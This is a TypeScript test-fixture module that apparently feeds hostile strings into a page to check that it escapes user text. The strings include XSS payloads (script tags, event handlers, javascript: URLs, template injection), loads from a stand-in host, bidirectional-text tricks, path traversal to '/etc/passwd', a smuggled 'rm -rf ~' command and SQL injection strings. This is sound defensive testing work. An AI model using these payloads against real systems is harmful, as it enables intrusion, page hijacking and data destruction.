/** Words that do harm where a page takes them for markup, for code, or for a part of its own line. */

/** What would run, load or change the page. `window.hurt` tells whether it ran; elsewhere.example whether it was asked. */
const MARKUP = [
  '<script>window.hurt=1</script>',
  '<script src="https://elsewhere.example/x.js"></script>',
  '<img src=x onerror=window.hurt=1>',
  '<img src="https://elsewhere.example/x.png">',
  '<svg onload=window.hurt=1></svg>',
  '<svg><script>window.hurt=1</script></svg>',
  '<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s></svg>',
  '<math><mtext><img src=x onerror=window.hurt=1></mtext></math>',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<object data="https://elsewhere.example/x.swf"></object>',
  '<embed src="https://elsewhere.example/x.swf">',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<style>*{display:none!important}</style>',
  '<style>@import "https://elsewhere.example/x.css"</style>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
  '<base href="https://elsewhere.example/">',
  '<form action="https://elsewhere.example/"><input autofocus onfocus=window.hurt=1></form>',
  '<details open ontoggle=window.hurt=1>x</details>',
  '<video><source onerror=window.hurt=1></video>',
  '<audio src=x onerror=window.hurt=1>',
  '<body onload=window.hurt=1>',
  '<a href="javascript:window.hurt=1">x</a>',
  '<plaintext>',
  '<!--',
  '<xmp><p title="</xmp><img src=x onerror=window.hurt=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.hurt=1>">',
]

/** Ways out of where the words stand. */
const OUT = ['', '">', "'>", '</bdi></h1></title></textarea></style>', '*/--></q>]]>']

const TEMPLATES = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant to stand as it is
  '${window.hurt=1}',
  '{{constructor.constructor("window.hurt=1")()}}',
  '{{name}}',
  '$t(nav.library)',
  '$t(library.count, {"count": 3})',
  '<%= window.hurt=1 %>',
  '%TOKEN%',
  '%NONCE%',
  'javascript:window.hurt=1',
  '[x](javascript:window.hurt=1)',
  '![x](https://elsewhere.example/x.png)',
  '&lt;script&gt;window.hurt=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.hurt=1&#62;',
  '\\u003cscript\\u003ewindow.hurt=1\\u003c/script\\u003e',
  '__proto__',
  'constructor',
]

/** Embeddings, overrides, isolates and marks of direction, opened and never closed, or closed and never opened. */
const CONTROLS = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
]

const BIDI = CONTROLS.flatMap((control) => [`Kenya ${control}report 12 (a)`, `تقرير ${control}كينيا 12 (a)`])

const SHAPES = [
  'x'.repeat(3000),
  'ش'.repeat(3000),
  '中'.repeat(3000),
  `e${'\u0301'.repeat(400)}`,
  `ب${'\u064e'.repeat(400)}`,
  `Z${'\u0300\u0316\u0334'.repeat(100)}algo`,
  '\u200b\u200c\u200d\u2060\ufeffzero',
  `a${'\u200b'.repeat(2000)}b`,
  'photo\u202etxt.exe',
  'تقرير النسخة 2 (final).txt',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON.txt',
  'report.txt; rm -rf ~',
  '%00.txt',
  '%2e%2e%2f',
  '"; DROP TABLE event; --',
  "' OR 1=1 --",
  '👩‍👩‍👧‍👦🏳️‍🌈🇰🇪',
  '\u{e0041}\u{e007f}tag',
  '﷽'.repeat(30),
  '\u115f\u1160\u3164\uffa0blank',
  '١٢٣/٤٥٦-٧٨٩ (abc) ١٢',
  '12/34 - שלום (abc) - 56',
  'ＦＵＬＬ ｗｉｄｔｈ',
  '‮‮‮‮‮‮x',
]

export const HOSTILE: readonly string[] = [
  ...OUT.flatMap((out) => MARKUP.map((markup) => out + markup)),
  ...TEMPLATES,
  ...BIDI,
  ...SHAPES,
]
